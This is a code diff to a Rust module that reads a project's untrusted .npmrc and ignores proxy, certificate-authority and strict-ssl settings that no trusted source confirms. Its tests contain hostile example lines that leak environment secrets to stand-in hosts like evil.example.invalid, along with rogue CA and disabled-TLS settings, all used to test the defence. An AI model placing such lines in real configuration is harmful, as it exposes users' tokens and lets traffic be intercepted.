@@ -1,11 +1,14 @@
 //! A project's own settings, read for somebody who may not trust them: which variables of the environment are put
-//! into them.
+//! into them, and which of them count at all.
 //!
 //! Who proposes a change writes its `.npmrc`. With `registry=https://host/${TOKEN}/`, or with a token for a host of
-//! theirs, they would be sent whatever the environment of whoever looks at the change holds.
+//! theirs, they would be sent whatever the environment of whoever looks at the change holds. With a proxy of theirs and
+//! an authority of theirs, or without any check of certificates, they would read along what is shown to registries.
 
 use std::collections::{BTreeMap, BTreeSet};
 use std::fmt;
+
+use url::Host;
 
 use super::{Npmrc, host_and_port, ini, web_address, with_slash};
 
@@ -49,8 +52,8 @@ impl fmt::Debug for Vouchers<'_> {
 enum Kind {
     /// Where a registry is.
     Registry,
-    /// Where a proxy is.
-    Proxy,
+    /// By which way registries are reached, and who is believed to be one.
+    Connection,
     /// What is shown to the host that is named in the key.
     Shown,
     /// What is shown to all registries.
@@ -63,7 +66,8 @@ impl Kind {
     fn of(key: &str) -> Self {
         match key {
             "registry" => Self::Registry,
-            "proxy" | "https-proxy" | "http-proxy" => Self::Proxy,
+            "strict-ssl" | "ca" | "cafile" => Self::Connection,
+            _ if is_of_proxies(key) => Self::Connection,
             "cert" | "key" => Self::ShownToAll,
             _ if key.ends_with(":registry") => Self::Registry,
             _ if key.starts_with("//") => Self::Shown,
@@ -71,6 +75,13 @@ impl Kind {
         }
     }
 }
+
+fn is_of_proxies(key: &str) -> bool {
+    PROXIES.contains(&key) || matches!(key, "noproxy" | "no-proxy")
+}
+
+/// Settings that name proxies.
+const PROXIES: [&str; 3] = ["proxy", "https-proxy", "http-proxy"];
 
 impl Npmrc {
     /// Reads the text of a project's own `.npmrc` like [`Self::parse`], and puts variables only into what somebody
@@ -81,6 +92,9 @@ impl Npmrc {
     /// Of what nobody vouches for, addresses stay as they are written, and credentials are left out.
     /// [`Self::withheld`] has the names. A variable that is not set is no secret, and stays as [`Self::parse`] has
     /// it.
+    ///
+    /// By which way registries are reached and who is believed to be one (proxies, authorities, `strict-ssl`) counts
+    /// only where somebody else says the same, or it takes nothing away. [`Self::ignored`] has the rest.
     #[must_use]
     pub fn parse_guarded(
         text: &str,
@@ -99,20 +113,32 @@ impl Npmrc {
             let raw: Vec<String> = raw.iter().map(|text| text.trim().to_owned()).collect();
             let key = ini::replace_env(&raw_key, env);
             let values: Vec<String> = raw.iter().map(|text| ini::replace_env(text, env)).collect();
+            if Kind::of(&key) == Kind::Connection {
+                if vouched.is_of_connection(&raw_key, &raw, &key, &values) {
+                    found.values.insert(key, values);
+                } else {
+                    found.ignored.insert(key);
+                }
+                continue;
+            }
+            if Kind::of(&key) == Kind::Registry && vouched.is_laid_bare(&raw_key, &raw, &values) {
+                found.ignored.insert(key);
+                continue;
+            }
             let names = set_in(env, std::iter::once(&raw_key).chain(&raw));
             if names.is_empty() || vouched.is_for(&raw_key, &raw, &values) {
                 found.values.insert(key, values);
                 continue;
             }
             match Kind::of(&raw_key) {
-                Kind::Registry | Kind::Proxy => {
+                Kind::Registry => {
                     found.withheld.insert(raw_key.clone(), names);
                     found.values.insert(raw_key, raw);
                 }
                 Kind::Shown | Kind::ShownToAll => {
                     found.withheld.insert(raw_key, names);
                 }
-                Kind::Kept => {
+                Kind::Kept | Kind::Connection => {
                     let values = raw.iter().map(|text| ini::replace_env(text, &paths));
                     found.values.insert(raw_key, values.collect());
                 }
@@ -141,6 +167,28 @@ impl Npmrc {
              registry in your own .npmrc or in npm_config_registry, or compare with a commit that has the line \
              (`weir check --base`)"
         ))
+    }
+
+    /// The settings of a connection that do not count, because only a project's own `.npmrc` has them; each with the
+    /// file, where that is known.
+    pub fn ignored(&self) -> impl Iterator<Item = (&str, Option<&str>)> {
+        let keys = self.ignored.iter();
+        keys.map(|key| (key.as_str(), self.ignored_in.as_deref()))
+    }
+
+    /// The same in words; nothing where all count.
+    #[must_use]
+    pub fn why_ignored(&self) -> Option<String> {
+        let keys: Vec<&str> = self.ignored().map(|(key, _)| key).collect();
+        let place = self.ignored_in.as_deref();
+        let place = place.map_or_else(String::new, |place| format!(" ({place})"));
+        (!keys.is_empty()).then(|| {
+            format!(
+                "{} of the project's own .npmrc{place} does not count here; say it in your own .npmrc or in the \
+                 environment, or compare with a commit that has the line (`weir check --base`)",
+                keys.join(", ")
+            )
+        })
     }
 
     /// Why nothing was shown to the host of an address, where a variable would have had to be.
@@ -184,6 +232,8 @@ struct Vouched<'a> {
     registries: BTreeSet<String>,
     proxies: BTreeSet<String>,
     hosts: BTreeSet<String>,
+    /// Settings of a connection, by key.
+    connection: BTreeMap<String, Vec<Vec<String>>>,
     default_registry: &'a dyn Fn() -> Option<String>,
 }
 
@@ -200,6 +250,7 @@ impl<'a> Vouched<'a> {
             registries: BTreeSet::new(),
             proxies: vouchers.proxies.iter().map(|it| (*it).to_owned()).collect(),
             hosts: BTreeSet::new(),
+            connection: BTreeMap::new(),
             default_registry: vouchers.default_registry,
         };
         for npmrc in [vouchers.own, &before] {
@@ -215,6 +266,12 @@ impl<'a> Vouched<'a> {
             vouched.registries.extend(named);
             let proxies = [npmrc.proxy(), npmrc.https_proxy()].into_iter().flatten();
             vouched.proxies.extend(proxies.map(str::to_owned));
+            for (key, values) in &npmrc.values {
+                if Kind::of(key) == Kind::Connection {
+                    let said = vouched.connection.entry(key.clone()).or_default();
+                    said.push(values.clone());
+                }
+            }
         }
         vouched
     }
@@ -231,10 +288,59 @@ impl<'a> Vouched<'a> {
             Kind::Registry => values
                 .iter()
                 .all(|it| self.registries.contains(&with_slash(it))),
-            Kind::Proxy => values.iter().all(|it| self.proxies.contains(it)),
             Kind::Shown => host_of_key(key).is_some_and(|host| self.is_host(&host)),
-            Kind::ShownToAll | Kind::Kept => false,
+            Kind::ShownToAll | Kind::Kept | Kind::Connection => false,
         }
+    }
+
+    /// Whether a setting of a connection counts: somebody else says the same, or it takes nothing away. `key` and
+    /// `values` are with variables put in.
+    fn is_of_connection(
+        &self,
+        raw_key: &str,
+        raw: &[String],
+        key: &str,
+        values: &[String],
+    ) -> bool {
+        if self.lines.contains(&(raw_key.to_owned(), raw.to_vec())) {
+            return true;
+        }
+        let said = self.connection.get(key);
+        if said.is_some_and(|said| said.iter().any(|it| it == values)) {
+            return true;
+        }
+        let last = values.last().map(String::as_str);
+        let is_empty = matches!(last, None | Some("" | "null" | "false"));
+        match key {
+            "strict-ssl" => last != Some("false"),
+            "ca" | "cafile" => is_empty && said.is_none(),
+            _ if PROXIES.contains(&key) => match is_empty {
+                true => self.proxies.is_empty(),
+                false => last.is_some_and(|it| self.proxies.contains(it)),
+            },
+            // Without a proxy nothing goes past it.
+            _ => self.proxies.is_empty(),
+        }
+    }
+
+    /// Whether a registry is asked without encryption by an address of which others name the host, and not so: what they
+    /// have for it would be shown to whoever is on the way.
+    fn is_laid_bare(&self, raw_key: &str, raw: &[String], values: &[String]) -> bool {
+        let is_bare = |value: &String| {
+            let url = web_address(value).filter(|it| it.scheme() == "http");
+            let host = url.as_ref().and_then(host_and_port);
+            let stays_here = url.as_ref().is_some_and(|it| match it.host() {
+                Some(Host::Domain(name)) => name == "localhost" || name.ends_with(".localhost"),
+                Some(Host::Ipv4(address)) => address.is_loopback(),
+                Some(Host::Ipv6(address)) => address.is_loopback(),
+                None => false,
+            });
+            host.is_some_and(|it| self.hosts.contains(&it))
+                && !stays_here
+                && !self.registries.contains(&with_slash(value))
+        };
+        let is_line = || self.lines.contains(&(raw_key.to_owned(), raw.to_vec()));
+        values.iter().any(is_bare) && !is_line()
     }
 
     fn is_host(&self, host: &str) -> bool {
@@ -316,11 +422,7 @@ mod tests {
                 "//s3cret.evil.example.invalid/:_authToken",
                 None,
             ),
-            (
-                "proxy=http://evil.example.invalid/${SECRET}",
-                "proxy",
-                Some("http://evil.example.invalid/${SECRET}"),
-            ),
+            ("proxy=http://evil.example.invalid/${SECRET}", "proxy", None),
             // The host is known, but the address would be shown.
             (
                 "registry=https://named.example.invalid/${SECRET}/",
@@ -328,9 +430,10 @@ mod tests {
                 Some("https://named.example.invalid/${SECRET}/"),
             ),
             ("cert=${SECRET}", "cert", None),
+            ("cafile=/x/${SECRET}.pem", "cafile", None),
             (
-                "cafile=/x/${SECRET}.pem",
-                "cafile",
+                "userconfig=/x/${SECRET}.pem",
+                "userconfig",
                 Some("/x/${SECRET}.pem"),
             ),
             // Near misses.
@@ -354,7 +457,7 @@ mod tests {
                 "proxy",
                 Some("http://proxy.example.invalid:3128"),
             ),
-            ("cafile=${HOME}/ca.pem", "cafile", Some("/home/user/ca.pem")),
+            ("userconfig=${HOME}/rc", "userconfig", Some("/home/user/rc")),
             (
                 "registry=https://a.example.invalid/",
                 "registry",
@@ -396,6 +499,96 @@ mod tests {
         let moved = "registry=https://evil.example.invalid/${SECRET}/\n";
         let found = read(moved, "", Some(line));
         assert_eq!(found.withheld("registry"), ["SECRET"]);
+    }
+
+    #[test]
+    fn a_connection_is_made_as_the_user_or_the_base_says() {
+        let own = "cafile=/own.pem\nproxy=http://own.example.invalid:1\nstrict-ssl=true\n";
+        let token = "//bare.example.invalid/:_authToken=t";
+        let before = "ca=before\nhttps-proxy=http://before.example.invalid:1\nstrict-ssl=false\n";
+        for (line, own, base, counts) in [
+            ("proxy=http://evil.example.invalid:1", "", None, false),
+            (
+                "https-proxy=http://evil.example.invalid:1",
+                own,
+                None,
+                false,
+            ),
+            ("http-proxy=http://evil.example.invalid:1", "", None, false),
+            ("strict-ssl=false", "", None, false),
+            ("strict-ssl=false", own, None, false),
+            ("strict${NOBODY?}-ssl=false", "", None, false),
+            ("ca[]=evil", "", None, false),
+            ("ca=evil", "", Some(before), false),
+            ("cafile=./evil.pem", own, None, false),
+            ("cafile=", own, None, false),
+            ("ca=null", "ca=own", None, false),
+            ("proxy=null", own, None, false),
+            ("noproxy=registry.example.invalid", own, None, false),
+            ("no-proxy=*", own, None, false),
+            // Near misses: what others say, or takes nothing away.
+            ("strict-ssl=false", "", Some(before), true),
+            ("strict-ssl=false", "strict-ssl=false", None, true),
+            ("strict-ssl=true", "strict-ssl=false", None, true),
+            ("ca=before", "", Some(before), true),
+            ("cafile=/own.pem", own, None, true),
+            ("proxy=http://own.example.invalid:1", own, None, true),
+            ("https-proxy=http://own.example.invalid:1", own, None, true),
+            (
+                "proxy=http://before.example.invalid:1",
+                "",
+                Some(before),
+                true,
+            ),
+            ("cafile=", "", None, true),
+            ("ignore-scripts=false", own, None, true),
+            // A token that others have for the host would go out in the clear.
+            ("registry=http://bare.example.invalid/x", token, None, false),
+            (
+                "@s:registry=http://bare.example.invalid",
+                token,
+                None,
+                false,
+            ),
+            ("registry=https://bare.example.invalid/x", token, None, true),
+            ("registry=http://other.example.invalid/", token, None, true),
+            (
+                "registry=http://localhost:1/",
+                "//localhost:1/:_authToken=t",
+                None,
+                true,
+            ),
+            (
+                "registry=http://bare.example.invalid/x",
+                token,
+                Some("registry=http://bare.example.invalid/x"),
+                true,
+            ),
+        ] {
+            let found = Npmrc::default().over(read(line, own, base));
+            let ignored = found.ignored().count();
+            assert_eq!(ignored == 0, counts, "{line} over {own} with {base:?}");
+            let raw = line.split(['=', '[', '$']).next().unwrap();
+            let is_there = found.values.keys().any(|key| key.starts_with(raw));
+            assert_eq!(is_there, counts, "{line}");
+            assert_eq!(found.why_ignored().is_none(), counts, "{line}");
+        }
+        // What the environment says counts for everybody.
+        let env = BTreeMap::from([("npm_config_cafile".to_owned(), "/x.pem".to_owned())]);
+        let found = Npmrc::from_env(&env).over(read("cafile=/evil.pem", "", None));
+        assert_eq!(found.cafile(), Some("/x.pem"));
+        assert_eq!(found.why_ignored(), None);
+        let said = read(
+            "cafile=/evil.pem\nproxy=http://u:pw@evil.example.invalid",
+            "",
+            None,
+        );
+        let said = said.why_ignored().unwrap();
+        assert!(
+            said.starts_with("cafile, proxy of the project's own .npmrc (app/.npmrc)"),
+            "{said}"
+        );
+        assert!(!said.contains("pw"), "{said}");
     }
 
     #[test]
